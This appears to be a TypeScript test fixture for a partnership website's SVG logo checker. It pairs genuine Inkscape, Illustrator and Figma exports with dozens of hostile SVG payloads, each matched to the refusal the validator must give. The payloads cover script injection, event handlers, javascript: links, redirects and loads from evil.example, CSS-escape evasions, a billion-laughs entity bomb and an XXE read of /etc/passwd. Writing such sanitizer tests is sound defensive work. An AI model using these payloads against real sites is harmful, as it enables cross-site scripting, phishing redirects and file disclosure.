/**
 * SVG logos for the tests: ones partnerships really have (as Inkscape, Illustrator and Figma
 * export them, and one written by hand), and the attacker's: every way found to make a logo
 * opened on its own address run a script, redirect, or load from another site.
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { checkContent, type CheckResult } from '../../src/model/check.ts';
import { validTree, writeTree, type Tree } from './content-tree.ts';

/** A partnership in content format 2 whose logo is `logo.svg` (written apart, as bytes). */
export function brandedTree(partnership = 'hampshire'): Tree {
  return {
    ...validTree(partnership),
    [`${partnership}/partnership.md`]: [
      '---',
      'format: 2',
      `name: ${partnership} Safeguarding Children Partnership`,
      'shortName: SCP',
      `area: ${partnership}`,
      'branding:',
      '  logo:',
      '    file: logo.svg',
      '    alt: Safeguarding Children Partnership',
      '---',
      "The partnership's introduction.",
      '',
    ].join('\n'),
  };
}

export interface LogoCheck {
  /** The errors the check found, each file relative to the content folder's parent. */
  errors: Array<{ file: string; line?: number; message: string; hint?: string }>;
  /** The bytes the build would publish as the logo, when it passed. */
  published: string | undefined;
  result: CheckResult;
}

/** Runs the real check on a partnership whose logo is `logo` (text is written as UTF-8). */
export function checkLogo(logo: string | Uint8Array): LogoCheck {
  const tree = writeTree(brandedTree());
  try {
    writeFileSync(path.join(tree.contentDir, 'hampshire', 'logo.svg'), logo);
    const result = checkContent(tree.contentDir);
    const errors = result.problems
      .filter((p) => p.severity !== 'warning')
      .map((p) => ({ ...p, file: path.relative(tree.root, path.resolve(p.file)).split(path.sep).join('/') }));
    const asset = result.assets.find((a) => a.name === 'logo.svg');
    return { errors, published: asset && Buffer.from(asset.bytes).toString('utf8'), result };
  } finally {
    tree.remove();
  }
}

const svg = (body: string, attributes = '') => `<svg xmlns="http://www.w3.org/2000/svg"${attributes}>${body}</svg>\n`;
const xhtml = 'xmlns:h="http://www.w3.org/1999/xhtml"';
const xlink = ' xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Logos as drawing programs export them, each with what makes it real. */
export const realLogos: Record<string, string> = {
  // Inkscape's Plain SVG: style attributes, a second prefix for SVG, RDF metadata, a comment.
  'a crest with gradients and paths (Inkscape)': `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->

<svg
   width="120"
   height="40"
   viewBox="0 0 120 40"
   version="1.1"
   id="svg5"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <title id="title1">Hampshire Safeguarding Children Partnership</title>
  <defs id="defs2">
    <linearGradient id="crest-gold" x1="0" y1="0" x2="0" y2="1">
      <stop style="stop-color:#f2c14e;stop-opacity:1" offset="0" id="stop1" />
      <stop style="stop-color:#b7860b;stop-opacity:1" offset="1" id="stop2" />
    </linearGradient>
    <radialGradient id="crest-shine" cx="0.3" cy="0.3" r="0.7" gradientUnits="objectBoundingBox">
      <stop offset="0" stop-color="#ffffff" stop-opacity="0.6" />
      <stop offset="1" stop-color="#ffffff" stop-opacity="0" />
    </radialGradient>
  </defs>
  <metadata id="metadata1">
    <rdf:RDF>
      <cc:Work rdf:about="">
        <dc:format>image/svg+xml</dc:format>
        <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage" />
        <dc:title>HSCP crest</dc:title>
      </cc:Work>
    </rdf:RDF>
  </metadata>
  <g id="layer1">
    <path
       style="fill:url(#crest-gold);stroke:#5a3e00;stroke-width:1.2;stroke-linejoin:round"
       d="M 20,4 36,8 V 22 C 36,30 28,35 20,38 12,35 4,30 4,22 V 8 Z"
       id="shield" />
    <path style="fill:url('#crest-shine')" d="M 20,6 34,9.5 V 20 C 26,20 14,14 6,9.5 Z" id="shine" />
    <path style="fill:#00563f;fill-rule:evenodd" d="m 18,12 h 4 v 6 h 6 v 4 h -6 v 10 h -4 v -10 h -6 v -4 h 6 z" id="cross" />
    <svg:circle cx="60" cy="20" r="6" fill="#00563f" id="dot" />
    <path d="M 70,8 H 116 V 32 H 70 Z" fill="none" stroke="#00563f" stroke-width="2" stroke-dasharray="4 2" />
  </g>
</svg>
`,
  // Illustrator's "SVG 1.1" save: the DOCTYPE, a <style> of classes, xml:space, data-name.
  'a wordmark with a font-family (Illustrator)': `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
\t width="240px" height="60px" viewBox="0 0 240 60" style="enable-background:new 0 0 240 60;" xml:space="preserve">
<style type="text/css">
\t.st0{fill:#00563F;}
\t.st1{font-family:'Arial-BoldMT', Arial, sans-serif;}
\t.st2{font-size:22px;}
\t.st3{fill:none;stroke:#00563F;stroke-width:2;stroke-miterlimit:10;}
</style>
<g data-name="Layer 1">
\t<rect x="2" y="2" class="st3" width="56" height="56"/>
\t<polygon class="st0" points="30,10 50,30 30,50 10,30 "/>
\t<text transform="matrix(1 0 0 1 68 38)" class="st0 st1 st2">HSCP</text>
</g>
</svg>
`,
  // Figma's export: clip-path, a <symbol> drawn twice through <use href="#...">, a drop shadow.
  'a badge with a clipPath, a symbol and use#id (Figma)': `<svg width="160" height="48" viewBox="0 0 160 48" fill="none" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<g clip-path="url(#clip0_12_3)" filter="url(#shadow)">
<rect width="160" height="48" rx="8" fill="#5C2D91"/>
<use xlink:href="#hand" x="8" y="8" width="32" height="32"/>
<use href="#hand" x="120" y="8" width="32" height="32"/>
<circle cx="80" cy="24" r="12" fill="#FFC20E" opacity="0.9"/>
</g>
<defs>
<symbol id="hand" viewBox="0 0 32 32"><path d="M16 2C9 2 4 8 4 15c0 9 12 15 12 15s12-6 12-15C28 8 23 2 16 2Z" fill="white"/></symbol>
<clipPath id="clip0_12_3"><rect width="160" height="48" rx="8" fill="white"/></clipPath>
<filter id="shadow" x="-10%" y="-10%" width="120%" height="140%" filterUnits="objectBoundingBox" color-interpolation-filters="sRGB">
<feDropShadow dx="0" dy="2" stdDeviation="2" flood-color="#000" flood-opacity="0.3"/>
</filter>
</defs>
</svg>
`,
  // Written by hand, saved by Notepad with a byte-order mark: text, a title for screen readers.
  'words in two fonts, written by hand': `\uFEFF<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 60" role="img" aria-labelledby="t d">
  <title id="t">Isle of Wight Safeguarding Children Partnership</title>
  <desc id="d">The words "Isle of Wight" over "Safeguarding Children Partnership"</desc>
  <text x="10" y="28" font-family="'Segoe UI', Arial, sans-serif" font-size="24" font-weight="700" fill="#003b5c">Isle of Wight</text>
  <text x="10" y="50" font-family="Georgia, serif" font-size="14" fill="#003b5c"><tspan font-style="italic">Safeguarding</tspan> Children &amp; Young People&#8217;s Partnership</text>
</svg>
`,
};

/** Logos the old pattern check refused for the wrong reasons. */
export const falselyRefused: Record<string, string> = {
  'a <use xlink:href="#g"> of its own shape': svg(
    '<defs><path id="g" d="M0 0h10v10H0z" fill="#123"/></defs><use xlink:href="#g"/><use xlink:href="#g" x="12"/>',
    `${xlink} viewBox="0 0 22 10"`,
  ),
  'the words "only = safe"': svg('<text x="0" y="12" font-size="12">Children first: only = safe</text>', ' viewBox="0 0 200 16"'),
};

export interface Attack {
  name: string;
  logo: string | Uint8Array;
  /** Words the refusal must hold: what the logo does, naming its element or attribute. */
  refusal: string;
  /** The line the refusal points to, where the test knows it. */
  line?: number;
}

const evil = 'https://evil.example';
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const laughs = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE svg [',
  '  <!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ']>',
  '<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>',
].join('\n');

/** Every way found to make a logo run, redirect or load, and the words its refusal must hold. */
export const attacks: Attack[] = [
  // The attack run's findings.
  {
    name: 'a script under a second prefix for SVG',
    logo: svg(`<s:script xmlns:s="http://www.w3.org/2000/svg">alert(document.domain)</s:script>`),
    refusal: 'holds a script (<s:script>)',
  },
  { name: 'an XHTML script', logo: svg(`<h:script ${xhtml}>alert(document.domain)</h:script>`), refusal: '(<h:script>, in HTML)' },
  {
    name: 'an <animate> turning a link into an entity-encoded javascript:',
    logo: svg(
      '<a><animate attributeName="href" values="&#106;avascript:alert(document.domain)"/><rect width="100" height="100"/></a>',
      ' width="100" height="100"',
    ),
    refusal: 'holds a link (<a>)',
  },
  {
    name: 'an <animate> pointing a <use> at another site',
    logo: svg('<use width="9" height="9"><animate attributeName="href" values="https:&#47;&#47;evil.example/s.svg#x"/></use>'),
    refusal: 'holds an animation (<animate>)',
  },
  {
    name: 'a <set> giving a fill an entity-encoded url() of another site',
    logo: svg('<rect width="9" height="9"><set attributeName="fill" to="u&#114;l(https:&#47;&#47;evil.example/p.svg#g)"/></rect>'),
    refusal: 'holds an animation (<set>)',
  },
  {
    name: 'an XHTML <meta http-equiv=refresh>',
    logo: svg(`<h:meta ${xhtml} http-equiv="refresh" content="0;url=${evil}/phish"/>`),
    refusal: '(<h:meta>, in HTML)',
  },
  {
    name: 'a CSS-escaped @import',
    logo: svg(`<style>@\\69mport "${evil}/x.css";</style><rect width="9" height="9"/>`),
    refusal: 'uses a CSS escape',
  },
  {
    name: 'a CSS-escaped url() in a <style>',
    logo: svg(`<style>rect { fill: u\\72l(${evil}/p.svg#g) }</style><rect width="9" height="9"/>`),
    refusal: 'uses a CSS escape',
  },
  {
    name: 'a CSS-escaped url() in a fill',
    logo: svg(`\n\n<rect width="9" height="9" fill="u\\72l(${evil}/p.svg#g)"/>`),
    refusal: 'uses a CSS escape (\\), which can hide what it loads, in fill=',
    line: 3,
  },
  { name: 'an XHTML <img>', logo: svg(`<h:img ${xhtml} src="${evil}/pixel.png"/>`), refusal: '(<h:img>, in HTML)' },
  { name: 'an XHTML <iframe>', logo: svg(`<h:iframe ${xhtml} src="${evil}/"/>`), refusal: '(<h:iframe>, in HTML)' },
  { name: 'an XHTML <audio>', logo: svg(`<h:audio ${xhtml} autoplay="" src="${evil}/a.mp3"/>`), refusal: '(<h:audio>, in HTML)' },
  // Hiding places.
  {
    name: 'CDATA closing the text and opening a script',
    logo: svg('<text><![CDATA[</text><script>alert(1)</script>]]></text>'),
    refusal: 'holds a CDATA section',
  },
  {
    name: 'CDATA in a <style> closing it',
    logo: svg(`<style><![CDATA[ rect { fill: red } </style><script>alert(1)</script> ]]></style>`),
    refusal: 'holds markup (<) inside its <style>',
  },
  {
    name: 'a comment hiding markup from an HTML reader',
    logo: svg('<!--><script>alert(1)</script>--><rect width="9" height="9"/>'),
    refusal: 'holds markup (<) hidden in a comment',
  },
  { name: 'a script in capitals', logo: svg('<SCRIPT>alert(1)</SCRIPT>'), refusal: 'holds a <SCRIPT> element' },
  { name: 'foreignObject in lower case', logo: svg('<foreignobject/>'), refusal: 'holds a <foreignobject> element' },
  {
    name: 'an event handler in mixed case',
    logo: svg('<rect onClick="alert(1)" width="9" height="9"/>'),
    refusal: 'holds an event handler (onClick=',
  },
  {
    name: 'an onload on the <svg>',
    logo: svg('<rect width="9" height="9"/>', ' onload="alert(1)"'),
    refusal: 'holds an event handler (onload=',
  },
  {
    name: 'a <script> on a later line',
    logo: svg('\n<g>\n  <script>alert(1)</script>\n</g>'),
    refusal: 'holds a script (<script>)',
    line: 3,
  },
  {
    name: 'a <foreignObject> holding a page',
    logo: svg(`<foreignObject><h:iframe ${xhtml} src="${evil}/"/></foreignObject>`),
    refusal: 'embeds a web page (<foreignObject>)',
  },
  {
    name: 'xml:base moving every reference to another site',
    logo: svg('<g xml:base="https://evil.example/"><use href="#x"/></g>'),
    refusal: 'has the attribute xml:base on <g>',
  },
  {
    name: 'another namespace on an attribute',
    logo: svg('<rect x:href="https://evil.example/" xmlns:x="urn:x" width="9" height="9"/>'),
    refusal: 'has the attribute x:href on <rect>',
  },
  { name: 'an <a> link', logo: svg(`<a href="${evil}/"><text>HSCP</text></a>`), refusal: 'holds a link (<a>)' },
  {
    name: 'an <image> from another site',
    logo: svg(`<image href="${evil}/track.png" width="9" height="9"/>`),
    refusal: 'embeds a picture (<image>)',
  },
  {
    name: 'an <image> from a data: address',
    logo: svg(`<image href="data:image/svg+xml;base64,${Buffer.from(svg('<script>alert(1)</script>')).toString('base64')}"/>`),
    refusal: 'embeds a picture (<image>)',
  },
  {
    name: 'a fill from a data: address',
    logo: svg('<rect width="9" height="9" fill="url(data:image/svg+xml,%3Csvg%3E)"/>'),
    refusal: 'loads something from another file or site (url(data:',
  },
  {
    name: 'a <use> of another file',
    logo: svg('<use href="other.svg#x"/>'),
    refusal: 'refers to another file or site (href="other.svg#x")',
  },
  {
    name: 'a <use xlink:href> of another site',
    logo: svg(`<use xlink:href="${evil}/sprite.svg#x"/>`, xlink),
    refusal: `refers to another file or site (xlink:href="${evil}/sprite.svg#x")`,
  },
  {
    name: 'a javascript: href behind a space',
    logo: svg('<use href=" javascript:alert(1)"/>'),
    refusal: 'refers to another file or site',
  },
  {
    name: 'a filter from another site',
    logo: svg(`<rect width="9" height="9" filter="url(${evil}/f.svg#blur)"/>`),
    refusal: 'loads something from another file or site',
  },
  {
    name: 'an @import in a <style>',
    logo: svg(`<style>@import url(${evil}/x.css);</style>`),
    refusal: 'holds an @ rule (like @import or @font-face)',
  },
  {
    name: 'a CSS comment splitting url',
    logo: svg(`<rect width="9" height="9" style="fill: u/**/rl(${evil}/g)"/>`),
    refusal: 'holds a CSS comment',
  },
  {
    name: 'image-set() in a style',
    logo: svg(`<rect width="9" height="9" style="fill: image-set('${evil}/x.png' 1x)"/>`),
    refusal: 'uses the CSS function image-set()',
  },
  {
    name: 'a cursor picture from another site',
    logo: svg(`<rect cursor="url(${evil}/c.png), auto"/>`),
    refusal: 'has the attribute cursor on <rect>',
  },
  {
    name: 'a stylesheet processing instruction',
    logo: `<?xml version="1.0"?>\n<?xml-stylesheet href="${evil}/x.css"?>\n${svg('<rect width="9" height="9"/>')}`,
    refusal: 'holds a processing instruction (<?xml-stylesheet ...?>)',
    line: 2,
  },
  { name: 'an entity expanding a billion times', logo: laughs, refusal: 'has a DOCTYPE of its own', line: 2 },
  {
    name: 'an entity reading a file of the machine',
    logo: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${svg('<text>&x;</text>')}`,
    refusal: 'has a DOCTYPE of its own',
  },
  {
    name: 'an entity XML does not define',
    logo: svg('<text>&nbsp;</text>'),
    refusal: 'uses an entity (like &name;) that XML does not define',
  },
  {
    name: 'a script hidden in <metadata>',
    logo: svg(`<metadata><h:script ${xhtml}>alert(1)</h:script></metadata>`),
    refusal: 'holds <h:script> in its <metadata>',
  },
  {
    name: 'a second root after the <svg>',
    logo: `${svg('<rect width="9" height="9"/>')}<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>`,
    refusal: 'is not a well-formed SVG (XML) file',
  },
  { name: 'text saved as UTF-16', logo: utf16(svg('<script>alert(1)</script>')), refusal: 'is saved as UTF-16 text' },
  {
    name: 'a declared encoding that is not the file’s',
    logo: `<?xml version="1.0" encoding="UTF-7"?>${svg('<text>+ADw-script+AD4-</text>')}`,
    refusal: 'says it is written in UTF-7',
  },
  {
    name: 'a thousand nested groups',
    logo: svg(`${'<g>'.repeat(1000)}${'</g>'.repeat(1000)}`),
    refusal: 'nests its parts more than 100 deep',
  },
  {
    name: 'an <svg> without the SVG namespace',
    logo: '<svg><script>alert(1)</script></svg>',
    refusal: 'has an <svg> element without xmlns=',
  },
];
